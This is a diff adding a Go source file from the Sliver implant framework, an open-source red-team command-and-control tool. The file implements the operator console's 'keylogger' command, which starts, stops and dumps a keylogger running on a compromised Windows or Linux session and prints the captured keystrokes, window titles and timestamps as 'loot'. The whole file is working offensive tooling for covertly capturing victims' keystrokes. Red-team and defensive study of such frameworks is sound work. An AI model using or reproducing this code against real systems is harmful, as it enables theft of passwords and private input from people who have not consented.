@@ -0,0 +1,96 @@
+package command
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"context"
+	"fmt"
+	"strings"
+	"time"
+
+	"github.com/bishopfox/sliver/protobuf/rpcpb"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+
+	"github.com/desertbit/grumble"
+)
+
+func keylogger(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
+	session := ActiveSession.GetInteractive()
+	if session == nil {
+		return
+	}
+	if session.OS != "windows" && session.OS != "linux" {
+		fmt.Printf(Warn+"Not implemented for %s\n", session.OS)
+		return
+	}
+
+	req := &sliverpb.KeyloggerReq{Request: ActiveSession.Request(ctx)}
+	operation := ""
+	if 0 < len(ctx.Args) {
+		operation = strings.ToLower(ctx.Args[0])
+	}
+	switch operation {
+	case "":
+	case "start":
+		req.Start = true
+		req.FlushInterval = uint32(ctx.Flags.Int("flush-interval"))
+		req.BufferSize = uint32(ctx.Flags.Int("buffer-size"))
+	case "stop":
+		req.Stop = true
+	case "dump":
+		req.Flush = true
+	default:
+		fmt.Println(Warn + "Invalid subcommand, see 'help keylogger'")
+		return
+	}
+
+	keylog, err := rpc.Keylogger(context.Background(), req)
+	if err != nil {
+		fmt.Printf(Warn+"%s\n", err)
+		return
+	}
+	if keylog.Response != nil && keylog.Response.Err != "" {
+		fmt.Printf(Warn+"%s\n", keylog.Response.Err)
+	}
+	displayKeylog(keylog)
+	if keylog.Running {
+		fmt.Printf(Info + "Keylogger is running\n")
+	} else {
+		fmt.Printf(Info + "Keylogger is not running\n")
+	}
+}
+
+func displayKeylog(keylog *sliverpb.Keylogger) {
+	if 0 < keylog.Dropped {
+		fmt.Printf(Warn+"%d byte(s) dropped, keylogger buffer was full\n", keylog.Dropped)
+	}
+	for _, entry := range keylog.Entries {
+		timestamp := time.Unix(entry.Timestamp, 0).Format(time.RFC1123)
+		if entry.Window != "" {
+			fmt.Printf(bold+"[%s] %s"+normal+"\n", timestamp, entry.Window)
+		} else {
+			fmt.Printf(bold+"[%s]"+normal+"\n", timestamp)
+		}
+		fmt.Println(entry.Keys)
+	}
+	if 0 < len(keylog.Entries) {
+		fmt.Println()
+		fmt.Printf(Info + "Keystrokes saved to loot\n")
+	}
+}